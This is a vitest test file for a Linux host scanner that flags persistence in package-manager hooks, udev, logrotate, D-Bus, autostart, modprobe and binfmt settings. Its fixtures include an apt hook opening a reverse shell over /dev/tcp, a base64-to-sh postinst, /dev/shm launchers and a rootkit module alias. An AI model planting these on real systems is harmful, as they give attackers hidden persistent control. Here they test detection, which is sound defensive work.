import { describe, expect, test } from 'vitest';
import { binaryFormats } from '../../source/checks/binary-formats.ts';
import { busServices } from '../../source/checks/bus-services.ts';
import type { HostCheck } from '../../source/checks/check.ts';
import { desktopAutostart } from '../../source/checks/desktop-autostart.ts';
import { deviceRules } from '../../source/checks/device-rules.ts';
import { logRotation } from '../../source/checks/log-rotation.ts';
import { moduleSettings } from '../../source/checks/module-settings.ts';
import { packageManagerHooks } from '../../source/checks/package-manager-hooks.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const listed = ['/usr/lib/udev/rules.d/60-x.rules', '/lib/modules/6.1.0/kernel/drivers/loop.ko', '/usr/share/dbus-1/system-services/org.x.service', '/usr/lib/x/helper', '/usr/lib/python3/dist-packages/apt.py'];
const ask = (check: HostCheck, machine: Machine) => told(run(check, memoryHost(debian(listed, { '/lib': { link: 'usr/lib' }, '/usr/lib/x/helper': { mode: 0o755 }, '/dev/shm/x': { mode: 0o755 }, ...machine }))).findings);
const script = (line: string) => ({ mode: 0o755, content: `#!/bin/sh\n${line}\n` });

describe.each<[HostCheck, readonly (readonly [string, Machine, readonly string[]])[]]>([
	[
		packageManagerHooks,
		[
			['what packages and administrators set', {
				'/etc/apt/apt.conf.d/05etckeeper': 'DPkg::Pre-Invoke { "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"; };\n',
				'/etc/apt/apt.conf.d/99own': 'DPkg::Post-Invoke { "test -x /usr/local/sbin/note && /usr/local/sbin/note || true"; };\nAPT::Periodic::Unattended-Upgrade "1";\n',
				'/etc/dpkg/dpkg.cfg': '# c\nno-debsig\nlog /var/log/dpkg.log\n',
				'/var/lib/dpkg/info/x.postinst': '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n\tT=$(mktemp); curl --version >/dev/null\n\tchmod 4755 /usr/bin/x\nfi\n',
			}, []],
			['a hook of apt', { '/etc/apt/apt.conf.d/99x': 'APT::Update::Post-Invoke-Success {"nohup /dev/shm/x >/dev/null 2>&1 &";};\n' }, ['high /etc/apt/apt.conf.d/99x']],
			['one that calls home', { '/etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"bash -c \'bash -i >& /dev/tcp/192.0.2.1/4 0>&1\' &";};\n' }, ['critical /etc/apt/apt.conf.d/99x']],
			['unsigned packages', { '/etc/apt/apt.conf': 'APT::Get::AllowUnauthenticated "true";\n' }, ['medium /etc/apt/apt.conf']],
			['dpkg', { '/etc/dpkg/dpkg.cfg.d/x': 'post-invoke=/dev/shm/x\n' }, ['high /etc/dpkg/dpkg.cfg.d/x']],
			['a script of a package', { '/var/lib/dpkg/info/x.postinst': script('echo c3NoLWtleQ== | base64 -d | sh') }, ['high /var/lib/dpkg/info/x.postinst']],
			['dnf, of Debian', { '/usr/lib/python3/dist-packages/dnf-plugins/x.py': 'import os\nos.system("/dev/shm/x")\n' }, ['high /usr/lib/python3/dist-packages/dnf-plugins/x.py']],
			['dnf', { '/usr/lib/python3.9/site-packages/dnf-plugins/x.py': 'import os\nos.system("/dev/shm/x")\n' }, ['high /usr/lib/python3.9/site-packages/dnf-plugins/x.py']],
			['yum', { '/usr/lib/yum-plugins/x.py': 'x' }, ['high /usr/lib/yum-plugins/x.py']],
			['pacman', { '/etc/pacman.d/hooks/x.hook': '[Trigger]\nType = Package\n[Action]\nExec = /dev/shm/x\n' }, ['high /etc/pacman.d/hooks/x.hook']],
		],
	],
	[
		logRotation,
		[
			["the distribution's own", { '/etc/logrotate.d/rsyslog': '/var/log/syslog {\n\tpostrotate\n\t\t/usr/lib/rsyslog/rsyslog-rotate\n\tendscript\n}\n' }, []],
			['a script that starts something', { '/etc/logrotate.d/rsyslog': '/var/log/syslog {\n\tpostrotate\n\t\t/dev/shm/x &\n\tendscript\n}\n' }, ['high /etc/logrotate.d/rsyslog']],
		],
	],
	[
		deviceRules,
		[
			["the distribution's own, and an administrator's", { '/usr/lib/udev/rules.d/60-x.rules': 'RUN+="/usr/lib/x/helper %k", PROGRAM="absent %k"\n', '/etc/udev/rules.d/70-own.rules': 'SUBSYSTEM=="net", ATTR{address}=="00:11", NAME="lan0"\n' }, []],
			['a rule that starts something', { '/etc/udev/rules.d/99-x.rules': 'ACTION=="add", ENV{MAJOR}=="1", RUN+="/bin/sh -c \'/dev/shm/x &\'"\n' }, ['high /etc/udev/rules.d/99-x.rules']],
			['a rule that leaves a job to at', { '/etc/udev/rules.d/99-y.rules': 'ACTION=="add", RUN+="/usr/bin/at -M -f /usr/lib/x/helper now"\n' }, ['medium /etc/udev/rules.d/99-y.rules']],
			['a rule that has a shell leave it to at', { '/etc/udev/rules.d/99-z.rules': 'ACTION=="add", RUN+="/bin/sh -c \'echo /usr/lib/x/helper | at now\'"\n' }, ['medium /etc/udev/rules.d/99-z.rules']],
			['rules of no package', { '/usr/lib/udev/rules.d/61-x.rules': 'RUN+="/usr/lib/x/helper"\n' }, ['medium /usr/lib/udev/rules.d/61-x.rules']],
		],
	],
	[
		busServices,
		[
			["the distribution's own", { '/usr/share/dbus-1/system-services/org.x.service': '[D-BUS Service]\nName=org.x\nExec=/usr/lib/x/helper\nUser=root\n' }, []],
			['a service of no package', { '/usr/share/dbus-1/system-services/org.y.service': '[D-BUS Service]\nName=org.y\nExec=/dev/shm/x\nUser=root\n' }, ['medium /usr/share/dbus-1/system-services/org.y.service', 'high /usr/share/dbus-1/system-services/org.y.service']],
		],
	],
	[
		desktopAutostart,
		[
			["somebody's own", { '/home/ann/.config/autostart/sync.desktop': '[Desktop Entry]\nType=Application\nExec=/home/ann/.local/bin/sync %U\n', '/home/ann/.local/bin/sync': { mode: 0o755 } }, []],
			['one that hides', { '/home/ann/.config/autostart/gnome-update.desktop': '[Desktop Entry]\nExec=sh -c "/home/ann/.x/.y"\n', '/home/ann/.x/.y': { mode: 0o755 } }, ['medium /home/ann/.config/autostart/gnome-update.desktop']],
		],
	],
	[
		moduleSettings,
		[
			["the distribution's own", { '/etc/modprobe.d/own.conf': 'install dccp /bin/true\nblacklist pcspkr\n', '/etc/modules': '# c\nloop\n', '/usr/lib/modules/6.1.0/modules.dep': 'kernel/drivers/loop.ko:\n' }, []],
			['a command in the place of a module', { '/etc/modprobe.d/x.conf': 'install usb_storage /dev/shm/x; /sbin/modprobe --ignore-install usb_storage\n' }, ['high /etc/modprobe.d/x.conf']],
			['a module of no package', { '/etc/modules-load.d/x.conf': 'net-flt\n', '/usr/lib/modules/6.1.0/modules.dep': 'kernel/drivers/loop.ko:\nkernel/net/net_flt.ko:\nupdates/dkms/zfs.ko:\n', '/usr/lib/modules/6.1.0/kernel/net/net_flt.ko': '' }, ['high /etc/modules-load.d/x.conf']],
			['a protocol that loads a module of no package', { '/etc/modprobe.d/x.conf': 'alias net-pf-40 net-flt\n', '/usr/lib/modules/6.1.0/modules.dep': 'kernel/drivers/loop.ko:\nkernel/net/net_flt.ko:\n', '/usr/lib/modules/6.1.0/kernel/net/net_flt.ko': '' }, ['high /etc/modprobe.d/x.conf']],
			['a device that loads a rootkit', { '/etc/modprobe.d/x.conf': 'alias char-major-240-* diamorphine\n' }, ['critical /etc/modprobe.d/x.conf']],
			['a protocol that runs a command', { '/etc/modprobe.d/x.conf': 'alias net-pf-40 netp\ninstall netp /usr/local/sbin/netp --start\n', '/usr/local/sbin/netp': { mode: 0o755 }, '/usr/lib/modules/6.1.0/modules.dep': 'kernel/drivers/loop.ko:\n' }, ['medium /etc/modprobe.d/x.conf', 'info /etc/modprobe.d/x.conf']],
			['aliases of packaged modules, of modules built here, and none at all', {
				'/etc/modprobe.d/own.conf': 'alias net-pf-10 off\nalias net-pf-31 loop\nalias eth0 e1000\nalias char-major-10-175 agpgart\nalias fs-zfs zfs\nalias net-pf-4 ipx\ninstall ipx /bin/true\nalias snd-card-0 snd-hda\ninstall snd-hda /sbin/modprobe --ignore-install snd-hda && /usr/sbin/alsactl restore\n',
				'/usr/lib/modules/6.1.0/modules.dep': 'kernel/drivers/loop.ko:\nupdates/dkms/zfs.ko:\n', '/usr/lib/modules/6.1.0/updates/dkms/zfs.ko': '',
			}, []],
			["a kernel of one's own", { '/etc/modules': 'nf_own\n', '/etc/modprobe.d/aliases.conf': 'alias net-pf-40 nf_own\n', '/usr/lib/modules/6.9.0-own/modules.dep': 'kernel/net/nf_own.ko:\n', '/usr/lib/modules/6.9.0-own/kernel/net/nf_own.ko': '' }, ['low /etc/modules']],
			['one built here', { '/etc/modules': 'zfs\n', '/usr/lib/modules/6.1.0/modules.dep': 'updates/dkms/zfs.ko:\n' }, ['low /etc/modules']],
		],
	],
	[
		binaryFormats,
		[
			["the distribution's own", { '/etc/binfmt.d/own.conf': ':x:E::x::/usr/lib/x/helper:\n' }, []],
			['an interpreter in a temporary place', { '/etc/binfmt.d/x.conf': ':suid:M:0:\\x7fELF::/dev/shm/x:C\n' }, ['high /etc/binfmt.d/x.conf']],
		],
	],
])('$title', (check, cases) => {
	test.each(cases)('%s', (_name, machine, expected) => {
		expect(ask(check, machine)).toEqual(expected);
	});
});
